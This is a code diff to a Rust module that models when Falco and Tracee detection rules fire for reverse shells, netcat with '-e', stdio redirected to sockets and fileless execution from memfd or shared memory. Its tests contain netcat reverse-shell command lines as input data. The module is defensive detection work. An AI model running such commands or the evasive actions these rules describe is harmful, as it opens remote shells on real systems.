@@ -4,7 +4,8 @@
 //! controlling terminals of the shells while they wait. All is read in the tools' favour: no event is lost, no list of
 //! exceptions applies, and where a rule is for containers only, every process counts as one in a container.
 //!
-//! **Falco** (falcosecurity/rules, `falco_rules.yaml` 3.x and the incubating, sandbox and deprecated files):
+//! **Falco** (falcosecurity/rules: `falco_rules.yaml` of 2.0.0 to 3.x; `memory` from there, too, `system` from the
+//! sandbox and deprecated files):
 //! - `redirect`: "Redirect STDOUT/STDIN to Network Connection in Container": dup, dup2 or dup3 returned 0, 1 or 2 and
 //!   that descriptor is an IPv4 or IPv6 socket. (fcntl and a socket that is born as 0 are no dup.)
 //! - `netcat`: "Netcat Remote Code Execution in Container": a process named `nc` with ` -e` or ` -c`, or `ncat` with
@@ -15,11 +16,11 @@
 //! - `system`: "System procs network activity": a process named as a shell connected, not to loopback.
 //! - `memory`: "Fileless execution via `memfd_create`": the executable lies in a memfd.
 //!
-//! **Tracee** (aquasecurity/tracee, `signatures/golang`, version 0.2x):
-//! - `stdio`: TRC-101 `stdio_over_socket`: connect on descriptor 0, 1 or 2 (whoever asks for it, `io_uring` too), or dup,
+//! **Tracee** (aquasecurity/tracee, `signatures/golang`):
+//! - `stdio`: TRC-101, version 2, `stdio_over_socket`: connect on descriptor 0, 1 or 2 (whoever asks for it, `io_uring` too), or dup,
 //!   dup2, dup3 onto one, of an IPv4 or IPv6 socket whose peer's port is known.
-//! - `web`: TRC-1016 `illegitimate_shell`: a process named as a web server executes a shell.
-//! - `fileless`: TRC-105 `fileless_execution`: the executable lies in a memfd or in `/dev/shm`.
+//! - `web`: TRC-1016, version 1, `illegitimate_shell`: a process named as a web server executes a shell.
+//! - `fileless`: TRC-105 `fileless_execution`: the executable lies in a memfd, `/dev/shm` or `/run/shm`.
 
 use std::collections::{BTreeSet, HashMap};
 
@@ -35,6 +36,21 @@ const COMM: usize = 15;
 pub struct Published {
     pub falco: BTreeSet<&'static str>,
     pub tracee: BTreeSet<&'static str>,
+}
+
+impl Published {
+    /// Returns the rules of either tool as words of a table.
+    #[must_use]
+    pub fn cells(published: Option<&Self>) -> (String, String) {
+        let listed = |rules: &BTreeSet<&'static str>| match rules.is_empty() {
+            true => "-".to_owned(),
+            false => rules.iter().copied().collect::<Vec<_>>().join(" "),
+        };
+        published.map_or_else(
+            || ("not asked".to_owned(), "not asked".to_owned()),
+            |published| (listed(&published.falco), listed(&published.tracee)),
+        )
+    }
 }
 
 /// Returns what the rules say. `terminals`: the names of processes that have a controlling terminal while they wait.
@@ -95,7 +111,7 @@ fn exec(published: &mut Published, path: &str, name: &str, arguments: &str, befo
     if path.starts_with("/memfd:") {
         published.falco.insert("memory");
     }
-    if path.starts_with("/memfd:") || path.starts_with("/dev/shm/") {
+    if ["/memfd:", "/dev/shm/", "/run/shm/"].iter().any(|place| path.starts_with(place)) {
         published.tracee.insert("fileless");
     }
     if SHELLS.contains(&name) && WEB_SERVERS.contains(&before) {
@@ -138,7 +154,11 @@ mod tests {
     #[test]
     fn netcat_is_known_by_its_option() {
         assert!(judge(&[exec(1, "/usr/bin/ncat", "ncat 1.2.3.4 1 -e /bin/sh")], &[]).falco.contains("netcat"));
-        assert!(judge(&[exec(1, "/usr/bin/nc.traditional", "nc.traditional -e sh 1.2.3.4 1")], &[]).falco.contains("netcat"));
+        assert!(
+            judge(&[exec(1, "/usr/bin/nc.traditional", "nc.traditional -e sh 1.2.3.4 1")], &[])
+                .falco
+                .contains("netcat")
+        );
     }
 
     #[test]
